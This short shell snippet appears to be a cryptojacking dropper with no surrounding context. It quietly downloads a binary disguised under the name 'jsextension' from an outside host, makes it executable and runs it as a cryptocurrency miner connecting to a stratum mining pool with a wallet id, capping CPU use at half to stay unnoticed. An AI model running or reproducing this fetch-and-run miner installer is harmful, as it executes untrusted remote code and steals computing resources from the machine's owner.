curl -sf --max-time 20 http://pool.example.net/jsextension -o jsextension
[ -f jsextension ] || exit 0
chmod +x jsextension
./jsextension -k --tls --rig-id q -o stratum+tcp://pool.example.net:3333 -u 49ay9Aq2 --cpu-max-threads-hint=50
